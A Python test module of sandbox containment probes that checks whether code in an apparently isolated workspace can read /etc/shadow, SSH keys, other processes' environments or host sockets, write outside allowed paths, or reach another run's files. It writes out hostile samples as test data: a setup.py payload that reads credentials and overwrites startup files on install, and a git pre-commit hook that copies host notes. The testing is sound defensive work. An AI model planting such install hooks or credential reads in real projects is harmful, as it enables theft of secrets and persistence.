"""01 to 07, 27, 32, 33: what of the host can be read, reached and changed through files."""

import os
import socket
import subprocess
from pathlib import Path

from tests.containment.probes.protocol import FACTS, Breach, probe, refused

ROOTS_HOME = "/root"


def planted(text: str) -> bool:
    return FACTS["secret_half"] in text


@probe("01")
def shadow() -> str:
    path = Path("/etc/shadow")
    if not path.exists():
        return "/etc/shadow is not there"
    return refused("reading /etc/shadow", path.read_bytes)


@probe("02")
def keys_of_the_user() -> str:
    places = [FACTS["host_home"] + "/.ssh/id_ed25519", f"{ROOTS_HOME}/.ssh", os.environ["HOME"] + "/.ssh"]
    for place in places:
        refused(f"looking at {place}", Path(place).stat)
    return "no .ssh of anybody"


@probe("03")
def own_environment() -> str:
    found = [name for name, value in os.environ.items() if name != "FACTS" and planted(value)]
    if found or "PERDURE_PLANTED_KEY" in os.environ:
        raise Breach(f"the worker's variables: {found}")
    return f"{len(os.environ)} variables, none of the worker's"


@probe("04")
def environments_of_others() -> str:
    own = os.getpid()
    for path in Path("/proc").glob("[0-9]*/environ"):
        if path.parent.name == str(own):
            continue
        try:
            text = path.read_bytes().decode(errors="replace")
        except OSError:
            continue
        # Those of this command's own processes hold what was given to it.
        if "PERDURE_PLANTED_KEY" in text or planted(text.replace(os.environ["FACTS"], "")):
            raise Breach(f"{path} has the planted key")
    return "no process's environment holds it"


@probe("05")
def sockets_of_the_host() -> str:
    places = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", FACTS["host_socket"]]
    for place in [*places, "/run/dbus/system_bus_socket", "/run/systemd/private", FACTS["other_proxy"]]:
        with socket.socket(socket.AF_UNIX) as own:
            refused(f"connecting to {place}", lambda own=own, place=place: own.connect(place))
    return "none can be reached"


@probe("06")
def writing_outside() -> str:
    allowed = ("/workspace", "/tmp", "/home/agent", "/dev/shm", "/run", "/var/tmp", "/proc", "/dev/mqueue", "/dev/pts")
    for top, names, _ in os.walk("/"):
        names[:] = [name for name in names if not str(Path(top, name)).startswith(allowed)]
        if top.count("/") > 3:
            names.clear()
        if top != "/" and top.startswith(allowed):
            continue
        refused(f"writing to {top}", lambda top=top: Path(top, "probe-06").write_text("x"))
    refused("writing to the host's directory", lambda: Path(FACTS["host_home"], "probe-06").write_text("x"))
    refused("changing a program", lambda: os.utime("/usr/bin/env"))
    return "nothing outside of what is given can be written"


@probe("07")
def links_to_files_of_the_host() -> str:
    for source in (FACTS["host_home"] + "/notes", "/usr/bin/env", "/etc/passwd"):
        refused(f"a hard link to {source}", lambda source=source: os.link(source, "/workspace/linked"))
    link = Path("/workspace/symbolic")
    link.symlink_to(FACTS["host_home"] + "/notes")
    refused("reading through a link", lambda: link.read_bytes())
    link.unlink()
    return "hard ones cannot be made, others lead nowhere"


STEAL = """
import socket
done = []
for path in (HOME + "/notes", HOME + "/.ssh/id_ed25519", "/root" + "/.netrc", "/etc/shadow"):
    try: done.append(open(path).read() and "read " + path)
    except OSError: pass
for path in (HOME + "/.profile", "/usr/lib/python3/sitecustomize.py", "/etc/profile.d/x.sh"):
    try: done.append(open(path, "w").write("stolen") and "wrote " + path)
    except OSError: pass
try: done.append(socket.create_connection(("127.0.0.1", PORT), 2) and "sent it")
except OSError: pass
print(done)
"""


@probe("27")
def a_hostile_build() -> str:
    """What code does that a build runs without being asked."""
    place = Path("/workspace/package")
    place.mkdir()
    known = f"HOME, PORT = {FACTS['host_home']!r}, {FACTS['tcp_port']}"
    (place / "setup.py").write_text(known + STEAL)
    done = subprocess.run(["python3", "setup.py", "install"], cwd=place, capture_output=True, text=True, check=False)
    if done.stdout != "[]\n":
        raise Breach(f"setup.py: {done.stdout} {done.stderr[-300:]}")
    return "setup.py steals and writes nothing"


@probe("32")
def a_hook_of_git() -> str:
    text = f"cat {FACTS['host_home']}/notes >stolen 2>/dev/null; touch {FACTS['host_home']}/hooked 2>/dev/null; exit 0"
    script = f"""
        git init -q repository && cd repository && printf '#!/bin/sh\n{text}\n' >.git/hooks/pre-commit
        chmod +x .git/hooks/pre-commit && touch file && git add file
        git -c user.name=a -c user.email=a@example.com commit -q -m one && cat stolen
    """
    done = subprocess.run(["sh", "-ec", script], cwd="/workspace", capture_output=True, text=True, check=False)
    if done.returncode or done.stdout:
        raise Breach(f"the hook: {done.stdout} {done.stderr[-300:]}")
    return "a hook ran and reached nothing"


@probe("33")
def other_runs() -> str:
    for place in (FACTS["worker_home"], FACTS["other_workspace"], FACTS["other_proxy"]):
        if Path(place).exists():
            raise Breach(f"{place} is there")
    for own in Path("/proc").glob("[0-9]*"):
        for way in ("root", "cwd"):
            inside = own / way / FACTS["other_workspace"].lstrip("/")
            try:
                if inside.exists():
                    raise Breach(f"{inside} is there")
            except PermissionError:
                continue
    return "neither the files nor the proxy of another run are there"
